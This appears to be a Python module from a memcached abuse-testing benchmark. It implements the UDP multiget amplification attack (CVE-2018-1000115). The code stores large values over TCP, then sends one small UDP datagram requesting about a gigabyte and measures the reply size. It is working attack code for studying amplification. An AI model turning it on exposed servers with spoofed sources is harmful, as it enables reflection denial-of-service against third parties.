"""The UDP attack: one small datagram over -U asking for a gigabyte of values.

memcached's UDP port made it a reflector (CVE-2018-1000115): a spoofed get for large
values is answered with all of them, to whatever address the datagram claims.
"""

from __future__ import annotations

import socket
import struct
import time

from bench.abuse.attacks import PORT, Address, Scale, attack, connect, read_line, sockets
from bench.abuse.probes import MB, server_stats

VALUE = MB - 512  # a 1 MB value: within -I 1m with its key and header


def datagram(payload: bytes, request_id: int = 1) -> bytes:
    """memcached's UDP frame: request id, sequence 0, 1 datagram, reserved."""
    return struct.pack(">HHHH", request_id, 0, 1, 0) + payload


@attack("udp-multiget", "one datagram asks for 1,000 x 1 MB values over -U", flags=("-U", PORT))
def udp_multiget(address: Address, scale: Scale) -> str:
    values = scale.memory_mb // 4  # they fit -m; the get names each many times
    stored = 0
    with sockets() as opened:
        sock = connect(address, timeout=30)
        if sock is None:
            return "refused"
        opened.append(sock)
        for n in range(values):
            sock.sendall(b"set u%d 0 0 %d\r\n%s\r\n" % (n, VALUE, b"x" * VALUE))
            stored += read_line(sock, 10) == b"STORED\r\n"
    keys = scale.count(1000)
    request = datagram(b"get " + b" ".join(b"u%d" % (n % values) for n in range(keys)) + b"\r\n")
    received = 0
    # What the daemon sent, not what arrived: loopback drops what the reader cannot take.
    written = int(server_stats(address)["bytes_written"])
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
        udp.sendto(request, address)  # -U took the TCP port's number
        udp.settimeout(1.0)  # a second without a datagram: the reply is over
        deadline = time.monotonic() + 10 * scale.hold
        try:
            for _ in range(10_000_000):
                if time.monotonic() > deadline:
                    break
                received += len(udp.recv(65536))
        except TimeoutError:
            pass
    time.sleep(0.5)  # the last datagrams counted
    sent = int(server_stats(address)["bytes_written"]) - written
    return (
        f"reply {sent / MB:,.2f} MB of {keys * VALUE / MB:,.0f} MB asked, to a "
        f"{len(request):,}-byte datagram ({received / MB:,.2f} MB arrived; {stored} values)"
    )
